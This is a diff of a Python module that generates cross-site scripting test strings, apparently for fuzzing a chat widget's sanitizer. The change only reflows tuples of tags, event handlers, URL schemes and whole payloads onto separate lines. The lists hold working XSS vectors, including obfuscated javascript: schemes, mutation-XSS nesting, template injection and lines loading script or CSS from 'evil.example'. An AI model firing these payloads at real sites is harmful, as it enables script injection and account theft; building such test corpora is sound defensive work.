@@ -5,13 +5,48 @@ from itertools import product
 
 CALL = "alert(1)"
 TAGS = (
-    "img", "svg", "body", "iframe", "object", "embed", "video", "audio", "input", "details", "marquee", "form", "math", "a",
-    "style", "link", "meta", "base", "template", "textarea", "select", "table", "frontdesk-chat", "custom-x", "picture",
-)  # fmt: skip
+    "img",
+    "svg",
+    "body",
+    "iframe",
+    "object",
+    "embed",
+    "video",
+    "audio",
+    "input",
+    "details",
+    "marquee",
+    "form",
+    "math",
+    "a",
+    "style",
+    "link",
+    "meta",
+    "base",
+    "template",
+    "textarea",
+    "select",
+    "table",
+    "frontdesk-chat",
+    "custom-x",
+    "picture",
+)
 EVENTS = (
-    "onload", "onerror", "onclick", "onfocus", "onmouseover", "ontoggle", "onbegin", "onanimationstart", "onpointerenter",
-    "oncut", "onkeydown", "onpageshow", "onscroll", "onwheel",
-)  # fmt: skip
+    "onload",
+    "onerror",
+    "onclick",
+    "onfocus",
+    "onmouseover",
+    "ontoggle",
+    "onbegin",
+    "onanimationstart",
+    "onpointerenter",
+    "oncut",
+    "onkeydown",
+    "onpageshow",
+    "onscroll",
+    "onwheel",
+)
 SHAPES = (
     "<{tag} src=x {event}={call}>",
     "<{tag}/src=x/{event}='{call}'//",
@@ -22,10 +57,24 @@ SHAPES = (
     "`<{tag} {event}={call}>",
 )
 SCHEMES = (
-    "javascript:", "JaVaScRiPt:", "java\tscript:", " javascript:", "\x01javascript:", "javascript&colon;", "vbscript:",
-    "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "blob:", "file:///", "filesystem:", "view-source:javascript:",
-    "https:javascript:", "//javascript:", "feed:javascript:", "jar:javascript:",
-)  # fmt: skip
+    "javascript:",
+    "JaVaScRiPt:",
+    "java\tscript:",
+    " javascript:",
+    "\x01javascript:",
+    "javascript&colon;",
+    "vbscript:",
+    "data:text/html,<script>",
+    "data:text/html;base64,PHNjcmlwdD4=",
+    "blob:",
+    "file:///",
+    "filesystem:",
+    "view-source:javascript:",
+    "https:javascript:",
+    "//javascript:",
+    "feed:javascript:",
+    "jar:javascript:",
+)
 PLACES = (
     "{address}{call}",
     "<{address}{call}>",
@@ -44,14 +93,26 @@ PLACES = (
     "1. **[press]({address}{call})**",
 )
 WHOLE = (
-    "<script>{call}</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "</script><script>{call}</script>",
-    "</div></main></body><script>{call}</script>", "{{{{constructor.constructor('{call}')()}}}}", "${{{call}}}",
-    "<style>@import 'https://evil.example'</style>", "<svg><script>{call}</script></svg>", "<!--><img src=x onerror={call}>-->",
-    "<math><mtext><table><mglyph><style><img src=x onerror={call}>", "<noscript><p title='</noscript><img src=x onerror={call}>'>",
-    "```\n</code></pre><script>{call}</script>\n```", "![x](x){call}", "\u202e<script>{call}</script>",
-    "&lt;script&gt;{call}&lt;/script&gt;", "%3Cscript%3E{call}%3C/script%3E", "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
-    "data: {call}\n\nevent: reply\ndata: {{}}\n\n", "id: 99\n\n",
-)  # fmt: skip
+    "<script>{call}</script>",
+    "<SCRIPT SRC=//evil.example></SCRIPT>",
+    "</script><script>{call}</script>",
+    "</div></main></body><script>{call}</script>",
+    "{{{{constructor.constructor('{call}')()}}}}",
+    "${{{call}}}",
+    "<style>@import 'https://evil.example'</style>",
+    "<svg><script>{call}</script></svg>",
+    "<!--><img src=x onerror={call}>-->",
+    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
+    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
+    "```\n</code></pre><script>{call}</script>\n```",
+    "![x](x){call}",
+    "\u202e<script>{call}</script>",
+    "&lt;script&gt;{call}&lt;/script&gt;",
+    "%3Cscript%3E{call}%3C/script%3E",
+    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
+    "data: {call}\n\nevent: reply\ndata: {{}}\n\n",
+    "id: 99\n\n",
+)
 
 
 def lines() -> Iterator[str]:
